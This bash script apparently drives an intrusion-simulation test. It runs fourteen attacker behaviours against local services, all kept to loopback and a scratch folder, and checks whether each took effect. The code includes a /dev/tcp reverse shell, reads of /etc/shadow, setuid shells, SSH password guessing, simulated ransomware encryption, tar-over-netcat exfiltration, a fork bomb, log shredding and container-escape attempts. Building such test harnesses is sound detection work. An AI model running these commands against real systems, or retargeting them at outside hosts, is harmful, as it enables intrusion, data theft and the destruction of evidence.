#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# behaviours.sh NAME: does what an intruder would, within the service that is attacked. Everything is
# harmless, stays on loopback and in the folder $loot, and ends by itself within seconds.
#
# When sourced, it also tells what there is. NAME is the intruder's part; NAME_outside, if there is one,
# his other end, elsewhere; NAME_happened whether it has had its effect. $loot is his folder, $tools has
# his programs, $port is free, $web, $ssh and $data are the services' ports and data.
# shellcheck disable=SC2154 # all of these come by the environment

# NAME SERVICE USER WHAT
behaviours() {
	cat <<-END
		shell web www-data reverse shell over loopback
		reconnaissance web www-data a shell of the web server looks around
		scan postgresql postgres scan of 1,000 ports of loopback
		guessing ssh - 18 passwords guessed over ssh
		ransom database root 40 files encrypted and renamed
		exfiltration postgresql postgres 30 MB archived and sent away
		miner web www-data two processes that only compute
		bomb web www-data fork bomb within a limit of 150 processes
		setuid postgresql postgres su, mount and newgrp tried, a setuid shell made
		memfd web www-data program executed from memory
		injection database root code injected into own children by ptrace
		escape database root namespaces, mounts and another root tried
		wiping ssh root logs emptied, shredded and back-dated
		loading web www-data kernel module and BPF program tried
	END
}

shell() { bash -c "bash -i <>/dev/tcp/127.0.0.1/$port >&0 2>&1"; }

shell_outside() {
	{
		sleep 1
		for command in id 'uname -a' 'cat /etc/passwd' 'ls -la /' exit; do
			echo "$command"
			sleep 0.8
		done
	} | nc -l -N 127.0.0.1 "$port" >"$loot/heard"
}

shell_happened() { grep -q 'uid=33' "$loot/heard" && grep -q root:x: "$loot/heard"; }

reconnaissance() {
	id
	whoami
	uname -a
	hostname
	cat /etc/passwd /etc/group /proc/version /proc/net/tcp
	sleep 1
	find /usr/bin /usr/sbin -perm -4000
	find /home /root /var/www -name '*.conf' -o -name '.ssh'
	ls -la /etc/cron.d /var/spool/cron /home
	sleep 1
	cat /etc/shadow
	env
	df
}

reconnaissance_happened() { grep -q root:x: "$loot/out" && grep -q /usr/bin/su "$loot/out"; }

scan() { nc -z -v -w 1 127.0.0.1 "$((web - 700))-$((web + 300))"; }

scan_happened() { grep -q " $web port .*succeeded" "$loot/out"; }

guessing_outside() {
	printf '#!/bin/sh\necho guess | tee -a "%s/guesses"\n' "$loot" >"$loot/ask"
	chmod 755 "$loot/ask"
	for _ in {1..6}; do
		SSH_ASKPASS=$loot/ask SSH_ASKPASS_REQUIRE=force setsid ssh -F none -p "$ssh" \
			-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
			-o PubkeyAuthentication=no -o NumberOfPasswordPrompts=3 root@127.0.0.1 true
	done >>"$loot/out" 2>&1
}

guessing_happened() {
	[ "$(wc -l <"$loot/guesses")" -ge 18 ] && [ "$(grep -c 'denied (' "$loot/out")" -ge 6 ]
}

ransom() {
	local f
	mkdir "$loot/files"
	for f in {1..40}; do head -c 20000 /dev/urandom >"$loot/files/$f.doc"; done
	for f in "$loot"/files/*.doc; do
		openssl enc -aes-256-cbc -pbkdf2 -iter 10 -k secret -in "$f" -out "$f.locked"
		rm "$f"
		mv "$f.locked" "${f%.doc}.locked"
	done
	echo pay >"$loot/files/README"
}

ransom_happened() {
	[ "$(find "$loot/files" -name '*.locked' | wc -l)" -eq 40 ] &&
		[ "$(find "$loot/files" -name '*.doc' | wc -l)" -eq 0 ] && openssl enc -d -aes-256-cbc \
		-pbkdf2 -iter 10 -k secret -in "$loot/files/7.locked" -out /dev/null
}

exfiltration() { tar -cf - "$data" /usr/share/doc | gzip -1 | nc -N 127.0.0.1 "$port"; }

exfiltration_outside() { nc -l 127.0.0.1 "$port" >"$loot/received"; }

exfiltration_happened() {
	[ "$(stat -c %s "$loot/received")" -gt 5000000 ] && gzip -dc "$loot/received" | tar -tf - >/dev/null
}

miner() {
	local n
	for n in 1 2; do openssl speed -seconds 7 -bytes 64 sha256 >"$loot/hashes.$n" 2>&1 & done
	wait
}

miner_happened() { [ "$(grep -c 'sha256' "$loot"/hashes.1)" -gt 1 ] && grep -q 'sha256 .*k' "$loot/hashes.2"; }

# A shell that cannot fork waits, longer each time; its descendants only wait.
bomb() {
	ulimit -u 150
	perl -e '$| = 1; for (1 .. 8) { my $child = fork; print defined $child ? "x\n" : "refused\n"; } sleep 3' \
		>"$loot/forks"
}

bomb_happened() { grep -q refused "$loot/forks" && [ "$(grep -c x "$loot/forks")" -gt 100 ]; }

setuid() {
	cp /bin/bash "$loot/sh" && chmod 4755 "$loot/sh"
	"$loot/sh" -p -c id
	echo guess | su root -c id
	mount -o bind /root "$loot"
	newgrp root -c id </dev/null
	echo guess | chsh -s /bin/sh root
	passwd -d root
}

setuid_happened() { [ -u "$loot/sh" ] && grep -q 'su: Authentication failure' "$loot/out"; }

memfd() { "$tools/memfd" /usr/bin/readlink /proc/self/exe; }

memfd_happened() { grep -q memfd: "$loot/out"; }

injection() { "$tools/inject"; }

injection_happened() { grep -qx injected "$loot/out"; }

escape() {
	unshare --mount --pid --uts --ipc --net --fork sh -c "mount -t tmpfs none '$loot' && id && hostname x
		mount --bind / /mnt && umount /mnt; mount -t proc proc /proc && ls /proc | wc -l"
	nsenter --target 1 --mount --pid readlink /proc/self/ns/mnt
	unshare --user --map-root-user chroot /proc/1/root id
}

# A machine may refuse the latter two.
escape_happened() {
	grep -q uid=0 "$loot/out" && [ "$(grep -cE 'mnt:|denied|permitted|uid=0' "$loot/out")" -ge 3 ]
}

wiping() {
	local f
	cp -r /var/log "$loot/log"
	for f in $(seq 30); do echo "session of somebody" >"$loot/log/session.$f"; done
	find "$loot/log" -type f -exec sed -i /somebody/d {} \;
	find "$loot/log" -type f -exec touch -d '2 weeks ago' {} \;
	find "$loot/log" -type f -name 'session*' -exec shred -n 1 -u {} \;
	find "$loot/log" -type f -exec truncate -s 0 {} \;
}

wiping_happened() {
	[ -n "$(find "$loot/log" -type f)" ] && [ -z "$(find "$loot/log" -type f -size +0)" ] &&
		[ -z "$(find "$loot/log" -name 'session*')" ]
}

loading() { "$tools/load"; }

loading_happened() { grep -qx refused "$loot/out"; }

[ "${BASH_SOURCE[0]}" != "$0" ] || "$1"
